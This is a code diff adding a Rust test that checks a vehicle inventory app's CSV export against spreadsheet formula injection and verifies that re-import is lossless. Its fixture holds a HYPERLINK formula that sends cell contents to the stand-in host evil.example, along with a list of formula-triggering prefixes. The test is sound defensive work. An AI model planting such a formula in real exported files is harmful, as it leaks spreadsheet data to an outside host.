@@ -345,3 +345,35 @@ async fn a_job_left_running_by_a_stopped_worker_is_run_again_once_it_goes_quiet(
     let done = finish(&app, &t, &job).await;
     assert_eq!((done["status"].as_str(), done["created"].as_u64()), (Some("succeeded"), Some(2)), "{done}");
 }
+
+#[tokio::test]
+async fn a_csv_export_never_starts_a_cell_with_a_formula_and_still_imports_back_unchanged() {
+    let app = TestApp::spawn().await;
+    let t = app.tenant(&slug("loja")).await;
+    let store = app.store(&t, "Matriz").await;
+    // What a Sales user may type into the free-text fields.
+    let hostile = json!({"description": "=HYPERLINK(\"https://evil.example/?\"&A1,\"clique\")", "color": "+55 11 9999",
+        "lotLocation": "@SUM(1+1)", "interiorColor": "-2+3", "trim": "'=já neutralizada"});
+    app.vehicle(&t, &store, hostile.clone()).await;
+    let (status, _, file) =
+        app.get("/api/v1/vehicles/export?format=csv").tenant(&t.slug).token(&t.owner_token).send_bytes().await;
+    assert_eq!(status, StatusCode::OK);
+    let text = String::from_utf8(file.clone()).expect("utf-8");
+    let mut reader =
+        csv::ReaderBuilder::new().delimiter(b';').from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let headers = reader.headers().expect("headers").clone();
+    let row = reader.records().next().expect("a row").expect("record");
+    for (header, cell) in headers.iter().zip(row.iter()) {
+        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{header} starts a formula: {cell:?}");
+    }
+    let cell = |name: &str| row.get(headers.iter().position(|h| h == name).expect(name)).expect("cell").to_string();
+    assert_eq!(cell("Descrição"), format!("'{}", hostile["description"].as_str().expect("text")));
+    assert_eq!(cell("Versão"), "''=já neutralizada");
+
+    let done = finish(&app, &t, &upload(&app, &t, "export.csv", &file, false).await).await;
+    assert_eq!((done["unchanged"].as_u64(), done["rejected"].as_u64()), (Some(1), Some(0)), "{done}");
+    let v = &vehicles(&app, &t).await["items"][0];
+    for field in ["description", "color", "lotLocation", "interiorColor", "trim"] {
+        assert_eq!(v[field], hostile[field], "{field}");
+    }
+}
